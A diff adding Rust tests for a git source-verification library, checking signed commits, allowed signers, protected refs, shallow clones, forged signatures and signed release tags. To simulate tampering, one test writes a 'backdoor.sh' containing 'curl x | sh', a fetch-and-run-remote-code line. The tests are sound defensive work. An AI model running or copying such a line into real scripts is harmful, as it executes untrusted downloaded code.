@@ -1,0 +1,497 @@
+//! Real repositories in temp dirs, signed with keys from `ssh-keygen` by
+//! `git -c gpg.format=ssh commit -S` (the test shells out to git to build
+//! them, the library never does), checked through the public API.
+
+use std::path::{Path, PathBuf};
+use std::process::Command;
+
+use intact_model::{GitPolicy, Link, StepName};
+use intact_record::{record_artifacts, HashOptions};
+
+use crate::*;
+
+struct Fixture {
+    _tmp: tempfile::TempDir,
+    root: PathBuf,
+}
+
+impl Fixture {
+    fn new() -> Self {
+        let tmp = tempfile::tempdir().expect("temp dir");
+        let root = tmp.path().to_path_buf();
+        let f = Fixture { _tmp: tmp, root };
+        for who in ["alice", "mallory"] {
+            let key = f.root.join(who);
+            let st = Command::new("ssh-keygen")
+                .args(["-q", "-t", "ed25519", "-N", "", "-C", who, "-f"])
+                .arg(&key)
+                .status()
+                .expect("ssh-keygen runs");
+            assert!(st.success());
+        }
+        f
+    }
+
+    fn signer_line(&self, who: &str) -> String {
+        let pubkey = std::fs::read_to_string(self.root.join(format!("{who}.pub"))).expect("pub");
+        format!("{who}@example.com {}", pubkey.trim())
+    }
+
+    /// `git` in `dir` with a config of our own (no user settings leak in).
+    fn git(&self, dir: &Path, args: &[&str]) -> String {
+        let out = Command::new("git")
+            .current_dir(dir)
+            .env("GIT_CONFIG_GLOBAL", "/dev/null")
+            .env("GIT_CONFIG_NOSYSTEM", "1")
+            .env("GIT_AUTHOR_DATE", "2026-01-01T00:00:00Z")
+            .env("GIT_COMMITTER_DATE", "2026-01-01T00:00:00Z")
+            .args([
+                "-c",
+                "user.name=Alice",
+                "-c",
+                "user.email=alice@example.com",
+                "-c",
+                "gpg.format=ssh",
+                "-c",
+                "init.defaultBranch=main",
+                "-c",
+                "protocol.file.allow=always",
+            ])
+            .args(args)
+            .output()
+            .expect("git runs");
+        assert!(
+            out.status.success(),
+            "git {args:?}: {}",
+            String::from_utf8_lossy(&out.stderr)
+        );
+        String::from_utf8_lossy(&out.stdout).trim().to_string()
+    }
+
+    fn key(&self, who: &str) -> String {
+        format!("user.signingkey={}", self.root.join(who).display())
+    }
+
+    /// An upstream repository with one signed commit on main.
+    fn upstream(&self, signer: Option<&str>) -> PathBuf {
+        let up = self.root.join("upstream");
+        std::fs::create_dir_all(up.join("src")).expect("mkdir");
+        self.git(&up, &["init", "-q"]);
+        std::fs::write(up.join("README.md"), "demo\n").expect("write");
+        std::fs::write(up.join("src/main.rs"), "fn main() {}\n").expect("write");
+        self.git(&up, &["add", "."]);
+        self.commit(&up, signer, "first");
+        up
+    }
+
+    fn commit(&self, dir: &Path, signer: Option<&str>, msg: &str) -> String {
+        match signer {
+            Some(who) => {
+                let k = self.key(who);
+                self.git(dir, &["-c", &k, "commit", "-q", "-S", "-m", msg]);
+            }
+            None => {
+                self.git(dir, &["commit", "-q", "-m", msg]);
+            }
+        }
+        self.git(dir, &["rev-parse", "HEAD"])
+    }
+
+    /// Clone `upstream` into `<root>/work/checkout` and record it as the
+    /// products of step clone (names `checkout/...`), with git facts.
+    fn record_clone(&self, upstream: &Path, extra: &[&str]) -> Link {
+        let work = self.root.join("work");
+        std::fs::create_dir_all(&work).expect("mkdir");
+        let url = format!("file://{}", upstream.display());
+        let mut args = vec!["clone", "-q"];
+        args.extend_from_slice(extra);
+        args.extend_from_slice(&[url.as_str(), "checkout"]);
+        self.git(&work, &args);
+        self.record(&work, true)
+    }
+
+    fn record(&self, work: &Path, allow_dirty: bool) -> Link {
+        let hash = HashOptions {
+            base_path: Some(work.to_path_buf()),
+            ..HashOptions::default()
+        };
+        let mut link = Link::new(StepName::new("clone").expect("name"));
+        link.products = record_artifacts(&["checkout".to_string()], &hash).expect("record");
+        let facts = capture(
+            &["checkout".to_string()],
+            &CaptureOptions {
+                base_path: Some(work.to_path_buf()),
+                excludes: hash.exclude_patterns(),
+                allow_dirty,
+                ..CaptureOptions::default()
+            },
+        )
+        .expect("capture")
+        .expect("a work tree");
+        facts.attach(&mut link).expect("attach");
+        link
+    }
+
+    fn policy(&self, who: &str) -> GitPolicy {
+        let mut p = GitPolicy::new(StepName::new("clone").expect("name"));
+        p.protected_ref = Some("refs/remotes/origin/main".into());
+        p.signers = vec![self.signer_line(who)];
+        p
+    }
+
+    fn checkout(&self) -> PathBuf {
+        self.root.join("work/checkout")
+    }
+
+    fn verify(&self, policy: &GitPolicy, link: &Link) -> SourceReport {
+        verify_source(&self.checkout(), policy, &[link], &SourceOptions::default())
+            .expect("policy is well formed")
+    }
+}
+
+/// The report as text, with ids that change run to run replaced.
+fn text(report: &SourceReport, root: &Path) -> String {
+    let s = report
+        .checks
+        .iter()
+        .map(|c| c.to_string())
+        .collect::<Vec<_>>()
+        .join("\n");
+    regex_lite(&s.replace(&root.display().to_string(), "[ROOT]"))
+}
+
+/// Replace 40/64-hex ids, 12-hex short ids and SHA256 fingerprints.
+fn regex_lite(s: &str) -> String {
+    let mut out = String::new();
+    for word in s
+        .split_inclusive(|c: char| !(c.is_ascii_alphanumeric() || c == ':' || c == '+' || c == '/'))
+    {
+        let (core, tail) = word.split_at(
+            word.find(|c: char| !(c.is_ascii_alphanumeric() || c == ':' || c == '+' || c == '/'))
+                .unwrap_or(word.len()),
+        );
+        let is_hex = |w: &str| !w.is_empty() && w.chars().all(|c| c.is_ascii_hexdigit());
+        let replaced = if core.starts_with("SHA256:") {
+            "[FINGERPRINT]".to_string()
+        } else if is_hex(core) && core.len() == 40 {
+            "[COMMIT]".to_string()
+        } else if is_hex(core) && core.len() == 64 {
+            "[SHA256]".to_string()
+        } else if is_hex(core) && core.len() == 12 {
+            "[ID12]".to_string()
+        } else {
+            core.to_string()
+        };
+        out.push_str(&replaced);
+        out.push_str(tail);
+    }
+    out
+}
+
+fn failure_names(r: &SourceReport) -> Vec<&'static str> {
+    r.failures().map(Failure::name).collect()
+}
+
+#[test]
+fn a_signed_commit_on_the_protected_ref_verifies() {
+    let f = Fixture::new();
+    let up = f.upstream(Some("alice"));
+    let link = f.record_clone(&up, &[]);
+    let recorded = RecordedGit::from_link(&link)
+        .expect("consistent")
+        .expect("present");
+    assert_eq!(recorded.prefix, "checkout/");
+    assert_eq!(recorded.reference.as_deref(), Some("refs/heads/main"));
+    assert!(!recorded.dirty);
+    let r = f.verify(&f.policy("alice"), &link);
+    assert!(r.passed(), "{}", text(&r, &f.root));
+    insta::assert_snapshot!(text(&r, &f.root));
+}
+
+#[test]
+fn an_unsigned_commit_is_named() {
+    let f = Fixture::new();
+    let up = f.upstream(None);
+    let link = f.record_clone(&up, &[]);
+    let r = f.verify(&f.policy("alice"), &link);
+    assert_eq!(failure_names(&r), ["unsigned"]);
+    insta::assert_snapshot!(text(&r, &f.root));
+}
+
+#[test]
+fn a_signer_outside_the_policy_is_named() {
+    let f = Fixture::new();
+    let up = f.upstream(Some("mallory"));
+    let link = f.record_clone(&up, &[]);
+    let r = f.verify(&f.policy("alice"), &link);
+    assert_eq!(failure_names(&r), ["signer-not-allowed"]);
+    insta::assert_snapshot!(text(&r, &f.root));
+}
+
+#[test]
+fn a_tree_mismatch_lists_the_differing_paths() {
+    let f = Fixture::new();
+    let up = f.upstream(Some("alice"));
+    let link = f.record_clone(&up, &[]);
+    let r = f.verify(&f.policy("alice"), &link);
+    assert!(r.passed());
+    // Change the checkout, then record again (dirty allowed): the link now
+    // claims the commit for files that are not its tree.
+    let co = f.checkout();
+    std::fs::write(co.join("src/main.rs"), "fn main() { evil() }\n").expect("write");
+    std::fs::write(co.join("backdoor.sh"), "curl x | sh\n").expect("write");
+    std::fs::remove_file(co.join("README.md")).expect("rm");
+    let link = f.record(&f.root.join("work"), true);
+    assert!(
+        RecordedGit::from_link(&link)
+            .expect("ok")
+            .expect("some")
+            .dirty
+    );
+    let r = f.verify(&f.policy("alice"), &link);
+    assert_eq!(failure_names(&r), ["tree-mismatch"]);
+    insta::assert_snapshot!(text(&r, &f.root));
+}
+
+#[test]
+fn a_dirty_work_tree_is_refused_when_recording() {
+    let f = Fixture::new();
+    let up = f.upstream(Some("alice"));
+    f.record_clone(&up, &[]);
+    std::fs::write(f.checkout().join("new.txt"), "x").expect("write");
+    let err = capture(
+        &["checkout".to_string()],
+        &CaptureOptions {
+            base_path: Some(f.root.join("work")),
+            excludes: HashOptions::default().exclude_patterns(),
+            ..CaptureOptions::default()
+        },
+    )
+    .expect_err("dirty");
+    assert!(matches!(err, GitError::Dirty { .. }));
+    assert!(err.to_string().contains("new.txt"), "{err}");
+    // Excluded files (links written next to the sources) are not changes.
+    std::fs::remove_file(f.checkout().join("new.txt")).expect("rm");
+    std::fs::write(f.checkout().join("clone.1234abcd.link"), "{}").expect("write");
+    let ok = capture(
+        &["checkout".to_string()],
+        &CaptureOptions {
+            base_path: Some(f.root.join("work")),
+            excludes: HashOptions::default().exclude_patterns(),
+            ..CaptureOptions::default()
+        },
+    );
+    assert!(ok.is_ok(), "{ok:?}");
+}
+
+#[test]
+fn a_commit_off_the_protected_ref_is_named() {
+    let f = Fixture::new();
+    let up = f.upstream(Some("alice"));
+    f.git(&up, &["checkout", "-q", "-b", "feature"]);
+    std::fs::write(up.join("README.md"), "feature\n").expect("write");
+    f.git(&up, &["add", "."]);
+    f.commit(&up, Some("alice"), "feature work");
+    let link = f.record_clone(&up, &["--branch", "feature"]);
+    let r = f.verify(&f.policy("alice"), &link);
+    assert_eq!(failure_names(&r), ["not-on-protected-ref"]);
+    insta::assert_snapshot!(text(&r, &f.root));
+    let mut missing = f.policy("alice");
+    missing.protected_ref = Some("refs/heads/release".into());
+    let r = f.verify(&missing, &link);
+    assert_eq!(failure_names(&r), ["ref-not-found"]);
+}
+
+#[test]
+fn a_shallow_clone_missing_the_commit_is_named() {
+    let f = Fixture::new();
+    let up = f.upstream(Some("alice"));
+    let link = f.record_clone(&up, &[]);
+    // A newer commit, then a depth-1 clone that lacks the recorded one.
+    std::fs::write(up.join("README.md"), "v2\n").expect("write");
+    f.git(&up, &["add", "."]);
+    f.commit(&up, Some("alice"), "second");
+    let url = format!("file://{}", up.display());
+    f.git(&f.root, &["clone", "-q", "--depth", "1", &url, "shallow"]);
+    let r = verify_source(
+        &f.root.join("shallow"),
+        &f.policy("alice"),
+        &[&link],
+        &SourceOptions::default(),
+    )
+    .expect("policy ok");
+    assert_eq!(failure_names(&r), ["shallow-clone-missing-commit"]);
+    insta::assert_snapshot!(text(&r, &f.root));
+}
+
+#[test]
+fn a_missing_repository_is_named() {
+    let f = Fixture::new();
+    let up = f.upstream(Some("alice"));
+    let link = f.record_clone(&up, &[]);
+    let r = verify_source(
+        &f.root.join("nowhere"),
+        &f.policy("alice"),
+        &[&link],
+        &SourceOptions::default(),
+    )
+    .expect("policy ok");
+    assert_eq!(failure_names(&r), ["repository-not-found"]);
+}
+
+#[test]
+fn a_link_without_git_facts_is_named() {
+    let f = Fixture::new();
+    let up = f.upstream(Some("alice"));
+    let mut link = f.record_clone(&up, &[]);
+    link.materials.clear();
+    link.environment.clear();
+    let r = f.verify(&f.policy("alice"), &link);
+    assert_eq!(failure_names(&r), ["no-commit-recorded"]);
+    insta::assert_snapshot!(text(&r, &f.root));
+}
+
+#[test]
+fn release_tags_must_be_signed_by_an_allowed_signer() {
+    let f = Fixture::new();
+    let up = f.upstream(Some("alice"));
+    let mut policy = f.policy("alice");
+    policy.tag = Some("v*".into());
+
+    let link = f.record_clone(&up, &[]);
+    let r = f.verify(&policy, &link);
+    assert_eq!(failure_names(&r), ["no-release-tag"]);
+
+    f.git(&up, &["tag", "v0.9"]); // lightweight: no signature possible
+    std::fs::remove_dir_all(f.root.join("work")).expect("rm");
+    let link = f.record_clone(&up, &[]);
+    let r = f.verify(&policy, &link);
+    assert_eq!(failure_names(&r), ["unsigned"]);
+
+    let k = f.key("alice");
+    f.git(&up, &["-c", &k, "tag", "-s", "-m", "release", "v1.0"]);
+    std::fs::remove_dir_all(f.root.join("work")).expect("rm");
+    let link = f.record_clone(&up, &[]);
+    let r = f.verify(&policy, &link);
+    assert!(r.passed(), "{}", text(&r, &f.root));
+    insta::assert_snapshot!(text(&r, &f.root));
+
+    let k = f.key("mallory");
+    f.git(&up, &["tag", "-d", "v1.0"]);
+    f.git(&up, &["tag", "-d", "v0.9"]);
+    f.git(&up, &["-c", &k, "tag", "-s", "-m", "release", "v1.0"]);
+    std::fs::remove_dir_all(f.root.join("work")).expect("rm");
+    let link = f.record_clone(&up, &[]);
+    let r = f.verify(&policy, &link);
+    assert_eq!(failure_names(&r), ["signer-not-allowed"]);
+}
+
+#[test]
+fn an_altered_commit_signature_does_not_verify() {
+    // Re-use alice's signature on a commit with other content: git keeps
+    // the gpgsig header, the signed data no longer matches.
+    let f = Fixture::new();
+    let up = f.upstream(Some("alice"));
+    let raw = f.git(&up, &["cat-file", "commit", "HEAD"]);
+    let forged = raw.replacen("first", "first, and nothing else", 1) + "\n";
+    let path = f.root.join("forged");
+    std::fs::write(&path, forged).expect("write");
+    let id = f.git(
+        &up,
+        &[
+            "hash-object",
+            "-t",
+            "commit",
+            "-w",
+            path.to_str().expect("utf-8"),
+        ],
+    );
+    f.git(&up, &["update-ref", "refs/heads/main", &id]);
+    let link = f.record_clone(&up, &[]);
+    let r = f.verify(&f.policy("alice"), &link);
+    assert_eq!(failure_names(&r), ["bad-signature"]);
+}
+
+#[test]
+fn gpg_signatures_are_reported_never_accepted_unchecked() {
+    let f = Fixture::new();
+    let gnupg = f.root.join("gnupg");
+    std::fs::create_dir_all(&gnupg).expect("mkdir");
+    let gpg = |args: &[&str]| {
+        Command::new("gpg")
+            .arg("--homedir")
+            .arg(&gnupg)
+            .args([
+                "--batch",
+                "--no-tty",
+                "--pinentry-mode",
+                "loopback",
+                "--passphrase",
+                "",
+            ])
+            .args(args)
+            .output()
+            .expect("gpg runs")
+    };
+    let out = gpg(&[
+        "--quick-gen-key",
+        "Alice <alice@example.com>",
+        "ed25519",
+        "sign",
+        "never",
+    ]);
+    assert!(
+        out.status.success(),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    let out = gpg(&["--list-keys", "--with-colons"]);
+    let listing = String::from_utf8_lossy(&out.stdout);
+    let fpr = listing
+        .lines()
+        .find_map(|l| l.strip_prefix("fpr:::::::::"))
+        .map(|l| l.trim_end_matches(':').to_string())
+        .expect("a fingerprint");
+
+    let up = f.root.join("upstream");
+    std::fs::create_dir_all(&up).expect("mkdir");
+    f.git(&up, &["init", "-q"]);
+    std::fs::write(up.join("README.md"), "demo\n").expect("write");
+    f.git(&up, &["add", "."]);
+    let out = Command::new("git")
+        .current_dir(&up)
+        .env("GIT_CONFIG_GLOBAL", "/dev/null")
+        .env("GNUPGHOME", &gnupg)
+        .args([
+            "-c",
+            "user.name=Alice",
+            "-c",
+            "user.email=alice@example.com",
+        ])
+        .args(["-c", &format!("user.signingkey={fpr}")])
+        .args(["commit", "-q", "-S", "-m", "gpg signed"])
+        .output()
+        .expect("git runs");
+    assert!(
+        out.status.success(),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    let link = f.record_clone(&up, &[]);
+
+    let mut policy = f.policy("alice");
+    policy.gpg_fingerprints = vec![fpr.clone()];
+    let r = f.verify(&policy, &link);
+    assert_eq!(failure_names(&r), ["gpg-not-verified"]);
+    insta::assert_snapshot!(text(&r, &f.root));
+
+    let opts = SourceOptions {
+        gpg: Some(GpgVerifier::new(&gnupg)),
+    };
+    let r = verify_source(&f.checkout(), &policy, &[&link], &opts).expect("ok");
+    assert!(r.passed(), "{}", text(&r, &f.root));
+
+    policy.gpg_fingerprints = vec!["0000000000000000000000000000000000000000".into()];
+    let r = verify_source(&f.checkout(), &policy, &[&link], &opts).expect("ok");
+    assert_eq!(failure_names(&r), ["signer-not-allowed"]);
+}
